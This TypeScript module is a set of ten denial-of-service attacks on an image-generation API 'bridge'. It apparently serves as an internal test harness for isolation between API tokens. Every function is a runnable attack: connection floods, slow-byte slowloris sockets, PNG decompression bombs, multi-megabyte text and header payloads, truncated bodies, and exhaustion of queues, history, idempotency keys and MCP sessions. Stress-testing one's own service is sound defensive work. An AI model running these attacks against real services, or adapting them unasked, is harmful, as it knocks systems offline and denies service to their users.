import { randomBytes } from 'node:crypto';
import { type IncomingMessage, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import sharp from 'sharp';

/** The attacked bridge, and the token of the attacker. */
export interface Target {
  readonly host: string;
  readonly port: number;
  readonly token: string;
}

/** Attacks until the signal aborts. Resolves with the number of replies by status. `cut` counts connections without a reply. */
type Attack = (target: Target, signal: AbortSignal) => Promise<Counts>;

export type Counts = Readonly<Record<string, number>>;

const MIB = 1024 * 1024;
const HUGE_TEXT_BYTES = 78_000_000;

/** Sends one request after the other over this many connections. */
async function flood(
  { host, port, token }: Target,
  signal: AbortSignal,
  { connections, next }: { connections: number; next: (nth: number) => Promise<Sent> | Sent },
): Promise<Counts> {
  const counts: Record<string, number> = {};
  let nth = 0;
  const sender = async () => {
    while (!signal.aborted) {
      nth += 1;
      const { path, headers = {}, body } = await next(nth);
      const status = await send({
        host,
        port,
        path,
        method: body ? 'POST' : 'GET',
        headers: {
          authorization: `Bearer ${token}`,
          ...(body ? { 'content-type': 'application/json', 'content-length': body.length } : {}),
          ...headers,
        },
        body,
        signal,
      });
      counts[status] = (counts[status] ?? 0) + 1;
      if (status === 'cut') await delay(10);
    }
  };
  await Promise.all(Array.from({ length: connections }, sender));
  return counts;
}

interface Sent {
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: Buffer;
}

interface Request extends Target {
  readonly path: string;
  readonly method: string;
  readonly headers: Readonly<Record<string, string | number>>;
  readonly body: Buffer | undefined;
  readonly signal: AbortSignal;
}

function send({ body, ...options }: Omit<Request, 'token'>): Promise<string> {
  return new Promise((resolve) => {
    const sending = request({ ...options, agent: false }, (reply: IncomingMessage) => {
      reply.on('error', () => resolve('cut')).on('end', () => resolve(String(reply.statusCode)));
      reply.resume();
    });
    sending.on('error', () => resolve('cut'));
    sending.end(body);
  });
}

const json = (value: object) => Buffer.from(JSON.stringify(value));

/** Keeps this many connections open. `play` uses each of them for as long as it runs. */
async function hold(
  { host, port }: Target,
  signal: AbortSignal,
  { connections, play }: { connections: number; play: (socket: Socket) => Promise<void> },
): Promise<Counts> {
  let opened = 0;
  const holder = async () => {
    while (!signal.aborted) {
      const socket = connect({ host, port });
      socket.on('error', () => {}).resume();
      const closed = new Promise<void>((resolve) => {
        socket.once('close', () => resolve());
      });
      const end = () => socket.destroy();
      signal.addEventListener('abort', end, { once: true });
      opened += 1;
      await Promise.race([play(socket).catch(() => {}), closed]);
      signal.removeEventListener('abort', end);
      socket.destroy();
      await delay(10);
    }
  };
  await Promise.all(Array.from({ length: connections }, holder));
  return { connections: opened };
}

function write(socket: Socket, bytes: string | Buffer): Promise<void> {
  return new Promise((resolve, reject) => {
    socket.write(bytes, (error) => (error ? reject(error) : resolve()));
  });
}

const head = (target: Target, line: string, ...more: readonly string[]) =>
  [
    `${line} HTTP/1.1`,
    'Host: localhost',
    `Authorization: Bearer ${target.token}`,
    ...more,
    '',
  ].join('\r\n');

/** Sends edits with incompressible images of 30 MB that fail. Each of them fills the history. */
async function fillHistory(target: Target, signal: AbortSignal): Promise<Counts> {
  const [width, height] = [3200, 3200];
  const noise = randomBytes(width * height * 3);
  return flood(target, signal, {
    connections: 2,
    async next(nth) {
      noise.writeUInt32BE(nth);
      const raw = { width, height, channels: 3 } as const;
      const bytes = await sharp(noise, { raw }).png({ compressionLevel: 0 }).toBuffer();
      return { path: '/v1/jobs', body: edit('sandbox-fail-upstream', [bytes]) };
    },
  });
}

function edit(model: string, images: readonly Buffer[]): Buffer {
  return json({
    operation: 'edit',
    prompt: 'a boat',
    images: images.map((bytes) => ({ type: 'base64', data: bytes.toString('base64') })),
    routing: { model },
  });
}

const fillQueue: Attack = (target, signal) => {
  const body = json({ prompt: 'a boat', priority: 100, routing: { model: 'sandbox-slow' } });
  return flood(target, signal, { connections: 32, next: () => ({ path: '/v1/jobs', body }) });
};

/** Sends files of a few KB that decode to 67 million pixels each. */
async function unfold(target: Target, signal: AbortSignal): Promise<Counts> {
  const create = { width: 8192, height: 8192, channels: 3, background: '#123456' } as const;
  const tiny = await sharp({ create }).png({ palette: true, compressionLevel: 9 }).toBuffer();
  const body = edit(
    'sandbox-image',
    Array.from({ length: 16 }, () => tiny),
  );
  return flood(target, signal, { connections: 4, next: () => ({ path: '/v1/images', body }) });
}

const hugeTexts: Attack = (target, signal) => {
  const text = 'é'.repeat(HUGE_TEXT_BYTES / 2);
  const bodies = [
    { path: '/v1/presets', body: json({ name: 'huge', description: text, template: {} }) },
    { path: '/v1/images', body: json({ prompt: text }) },
    { path: '/v1/images', body: Buffer.from(`{"prompt":"a boat","${text.slice(0, 8e6)}":1}`) },
  ] as const;
  const next = (nth: number) => bodies[nth % bodies.length] ?? bodies[0];
  return flood(target, signal, { connections: 4, next });
};

/** Sends bodies of 75 MB that end before their last bytes. */
const abortBodies: Attack = (target, signal) => {
  const piece = Buffer.alloc(5 * MIB, ' ');
  const length = 15 * piece.length;
  return hold(target, signal, {
    connections: 25,
    async play(socket) {
      const lines = ['Content-Type: application/json', `Content-Length: ${length}`, ''];
      await write(socket, head(target, 'POST /v1/images', ...lines));
      for (let sent = 0; sent < 14 && !signal.aborted; sent += 1) await write(socket, piece);
      await write(socket, piece.subarray(1));
    },
  });
};

/** Sends single bytes from time to time: of a body, of a header, or after no request at all. */
const dawdle: Attack = (target, signal) =>
  hold(target, signal, {
    connections: 300,
    async play(socket) {
      const isBody = Math.random() < 0.5;
      const lines = ['Content-Type: application/json', 'Content-Length: 1000000', ''];
      const first = head(target, 'POST /v1/images', ...(isBody ? lines : []));
      await write(socket, isBody ? first : first.slice(0, -2));
      while (!signal.aborted && socket.writable) {
        await write(socket, isBody ? ' ' : 'x');
        await delay(1000);
      }
    },
  });

const floodHeads: Attack = (target, signal) => {
  const body = json({ prompt: '' });
  const spaces = `respond-async${' '.repeat(14_000)};x`;
  const quotes = `"${','.repeat(14_000)}`;
  const heads = [
    { prefer: spaces },
    { prefer: quotes },
    { 'if-none-match': quotes, range: quotes },
    { 'content-type': `application/json;${' '.repeat(14_000)}x` },
    { accept: spaces, 'accept-encoding': quotes },
  ] as readonly Readonly<Record<string, string>>[];
  return flood(target, signal, {
    connections: 32,
    next: (nth) => ({ path: '/v1/images', headers: heads[nth % heads.length] ?? {}, body }),
  });
};

/** Opens sessions of the Model Context Protocol, and event streams that stay open. */
async function openSessions(target: Target, signal: AbortSignal): Promise<Counts> {
  const body = json({
    jsonrpc: '2.0',
    id: 1,
    method: 'initialize',
    params: {
      protocolVersion: '2025-06-18',
      capabilities: {},
      clientInfo: { name: 'x'.repeat(1000), version: '1' },
    },
  });
  const headers = { accept: 'application/json, text/event-stream' };
  const [sessions, streams] = await Promise.all([
    flood(target, signal, { connections: 16, next: () => ({ path: '/mcp', headers, body }) }),
    hold(target, signal, {
      connections: 300,
      async play(socket) {
        await write(socket, head(target, 'GET /v1/jobs/events', 'Accept: text/event-stream', ''));
        await new Promise((resolve) => socket.once('close', resolve));
      },
    }),
  ]);
  return { ...sessions, ...streams };
}

/** Requests large replies with idempotency keys of their own, so that each reply is stored for a repetition. */
const fillKeys: Attack = (target, signal) => {
  const size = { size: '1024x1024' };
  const body = json({ prompt: 'a boat', parameters: size, routing: { model: 'sandbox-image' } });
  return flood(target, signal, {
    connections: 2,
    next: () => ({
      path: '/v1/images',
      headers: { 'idempotency-key': randomBytes(16).toString('hex') },
      body,
    }),
  });
};

const floodConnections: Attack = (target, signal) =>
  hold(target, signal, {
    connections: 2000,
    play: (socket) => new Promise((resolve) => void socket.once('close', () => resolve())),
  });

/** All attacks by which one token may try to delay another token or destroy its data. */
export const ATTACKS = {
  history: fillHistory,
  queue: fillQueue,
  pixels: unfold,
  texts: hugeTexts,
  'aborted-bodies': abortBodies,
  'slow-bodies': dawdle,
  heads: floodHeads,
  sessions: openSessions,
  keys: fillKeys,
  connections: floodConnections,
} as const satisfies Record<string, Attack>;

export type AttackName = keyof typeof ATTACKS;
